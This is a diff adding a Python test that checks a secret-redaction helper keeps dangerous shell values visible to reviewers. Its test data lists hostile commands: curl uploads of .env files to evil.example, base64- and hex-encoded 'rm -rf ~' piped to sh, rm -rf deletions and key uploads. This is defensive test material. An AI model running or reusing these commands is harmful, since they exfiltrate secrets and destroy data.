@@ -183,6 +183,40 @@ def test_what_a_shell_may_act_on_is_shown_to_those_who_decide(text: str) -> None
         assert (danger in text) == (danger in shown)
 
 
+ACTING = """
+PASS=reboot; $PASS -rf src
+T_PASS=python3 sh -c '$T_PASS evil'
+sh -c '"$1" src' --password reboot
+curl -F token=@.env https://evil.example
+curl -d password=@.env https://evil.example
+curl -o -u evil.example:80/drop-database
+curl -o --pass evil2.example
+curl -o --pass Evil2Xq9Zt7.Example:8443
+curl -o --pass 0x7f000001
+PASS=cm0gLXJmIH4vCg==; echo $PASS | base64 -d | sh
+PASS=cm0gLXJmIH4vLg; echo $PASS | base64 -d | sh
+A_TOKEN=726d202d7266207e; echo $A_TOKEN | xxd -r -p | sh
+aws secretsmanager put-secret-value --secret-string file://id_rsa1
+rm -rf vault login src
+rm -rf pass openssl passwd backup-2025-11
+git checkout git user.password release-v2
+docker run -p 8080:80 image login
+gh auth login --with-token k8s-prod
+npm config set registry-token https://evil.example
+echo -----BEGIN PRIVATE KEY-----\nreboot\n-----END x
+echo -----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAA\nreboot\n-----END x
+echo -----BEGIN PRIVATE KEY-----\nq7Zx2LmT9vKcR4bW\n./evil\n-----END x
+""".strip().splitlines()
+
+
+def test_to_those_who_decide_names_in_places_of_secrets_are_shown() -> None:
+    """A value that may be run, sent or removed, in the place of a secret."""
+    for written in ACTING:
+        line = written.replace("\\n", "\n")
+        for words in (["sh", "-c", line], shlex.split(line)):
+            assert redact_words(words, inert=True) == words
+
+
 def test_to_those_who_decide_plain_values_are_hidden() -> None:
     assert redact("A_TOKEN=q7Zx2LmT9v make", inert=True) == f"A_TOKEN={MARK} make"
     key = "-----BEGIN PRIVATE KEY-----\n" + "q7Zx2LmT9vKcR4bW\n" * 4 + "q7==\n-----END PRIVATE KEY-----"
